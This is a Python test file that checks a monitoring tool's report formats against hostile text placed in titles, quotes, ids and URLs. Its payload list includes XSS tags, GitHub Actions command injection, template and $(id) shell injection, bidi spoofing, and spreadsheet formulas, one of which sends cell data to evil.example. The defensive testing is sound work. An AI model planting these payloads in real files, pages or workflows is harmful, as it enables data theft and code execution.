"""Every format, every hostile word, every place where words of others may stand: none breaks any of them."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import Phase, given, settings

from monitor.model.comparison import Change, ChangeKind, Edit, Passage, PassageState
from monitor.model.finding import Event, Finding, Item, Mishap, Report
from monitor.model.source import Citation, Quote, Work
from monitor.model.verdict import Verdict
from monitor.report.formats import FORMATS, Format, written
from tests.report.consumers import CONSUMERS
from tests.report.nouns import harmful, reports
from tests.report.samples import SECRET, STARTED, calm_report, empty_report, offline_report, sample_report

#: What pages, file names and people have been seen to write, or might.
HOSTILE = {
    "a command on a line of its own": "x\n::error file=a.py,line=1::owned\r\n::add-mask::***",
    "an escaped command": "%0A::stop-commands::pause%0D%25",
    "the end of character data": "]]><x/><![CDATA[",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a style": "</style></title></textarea><img src=x onerror=alert(1)>",
    "the end of a comment": "--> <!-- source-monitor: the living issue -->",
    "control characters": "\x00\x01\x08\x0b\x0c\x0e\x1b[2J\x7f\x85\x9b",
    "reversal of direction": "\u202etxt.exe\u202c \u2066a\u2069 \u200f\u061c",
    "lone surrogates": "a\ud800b\udfffc",
    "what XML cannot hold": "\ufffe\uffff\U0001fffe",
    "line ends of other systems": "a\u2028b\u2029c\x1c\x1d\x1ed",
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "formulas in disguise": "\t=1+1",
    "a formula behind spaces": "  +cmd|' /C calc'!A0",
    "a formula in full width": "\uff1d1+1",
    "an at sign": "@SUM(1+1)",
    "a minus": "-2+3",
    "quotes and commas": 'a","b\r\n"c",\'d\'',
    "an entity": "&xxe; &#x0; &lt;b&gt;",
    "a placeholder and a link": "{0} {{1}} [click](javascript:alert(1)) [x](1) \\",
    "a template": "{{ 7*7 }} {% raw %} ${{ secrets.TOKEN }} $(id) `id`",
    "mentions": "@everyone #1 owner/repo#2 GH-3",
    "a heading and a task": "# owned\n- [x] done\n> quoted\n| a | b |\n```",
    "a byte order mark": "\ufeffa",
    "many marks": "e" + "\u0301" * 60,
    "nothing": "",
    "white space alone": " \t\n\u3000",
    "very long": "x" * 20_000,
    "very long without spaces, beyond the first plane": "\U0001f600" * 8_000,
}


def hostile_report(words: str) -> Report:
    """Give a report in which these words stand wherever words of others may stand."""
    sample = sample_report()
    items = []
    for number, (item, verdict) in enumerate(zip(sample.items, Verdict, strict=False)):
        source = replace(
            item.source,
            id=f"{words[:200]}{number}",
            url=f"https://a.example/{words[:2_000]}",
            work=Work(title=words, outlet=words, author=(words,), language=words),
            claim=words,
            stance=words,
            section=words,
            quotes=(Quote(exact=words), Quote(exact=f"{words}!")),
        )
        standing = replace(
            item.standing,
            verdict=verdict,
            reason=words,
            rule=words,
            title=words,
            final_url=f"https://b.example/{words[:2_000]}",
            quotes=(
                Passage(exact=words, state=PassageState.MISSING, likeness=0.2, found=words),
                Passage(exact=f"{words}!", state=PassageState.EDITED, likeness=0.9, found=f"{words[:500]}?"),
            ),
            change=Change(
                kind=ChangeKind.SUBSTANTIVE,
                likeness=0.9,
                added=1,
                removed=1,
                edits=(Edit(was=words, now="n", after=words),),
            ),
        )
        turn = Finding(source=source.id, was=Verdict.LIVE, now=verdict, event=Event.CHANGED, at=STARTED, says=words)
        cited = Citation(source=source.id, document=f"d/{words[:200]}", line=number + 1, column=2, text=words)
        items.append(Item(source=source, standing=standing, citations=(cited,), turns=(turn,)))
    run = replace(sample.run, vantage=words, mishaps=(Mishap(what=words, source=words),))
    incident = Finding(
        source=words, was=Verdict.LIVE, now=Verdict.FAILING, event=Event.INCIDENT, at=STARTED, says=words
    )
    return Report(run=run, items=tuple(items), incidents=(incident,))


def test_every_format_has_a_consumer() -> None:
    """No format is left out of these tests but the one that a terminal draws."""
    assert set(CONSUMERS) | {Format.TEXT} == set(FORMATS) == set(Format)


@pytest.mark.parametrize("kind", CONSUMERS)
@pytest.mark.parametrize("what", HOSTILE)
def test_no_words_break_a_format(kind: Format, what: str) -> None:
    """Whatever stands in titles, quotes, ids and file names: the consumer reads it, and nothing of it steers."""
    text = "".join(written(hostile_report(HOSTILE[what]), kind, folder="docs"))
    assert text.encode("utf-8").decode("utf-8") == text
    CONSUMERS[kind](text)


@pytest.mark.parametrize("kind", CONSUMERS)
@pytest.mark.parametrize(
    "report",
    [sample_report(), calm_report(), offline_report(), empty_report()],
    ids=["rich", "calm", "offline", "empty"],
)
def test_samples_are_read_in_every_format(kind: Format, report: Report) -> None:
    """Rich, calm, offline and empty reports: each is read by its consumer, and none shows a secret."""
    text = "".join(written(report, kind))
    CONSUMERS[kind](text)
    assert SECRET not in text
    assert not harmful(text, allowed="\n\r\u200b\ufeff")


@given(reports)
@settings(max_examples=15, phases=[Phase.generate])
def test_anything_is_read_in_every_format(report: Report) -> None:
    """Reports of chance, the nastier the likelier, through all formats; not shrunk, for that takes minutes."""
    for kind, read in CONSUMERS.items():
        text = "".join(written(report, kind, folder="docs"))
        assert "s3cr3tvalue" not in text
        read(text)
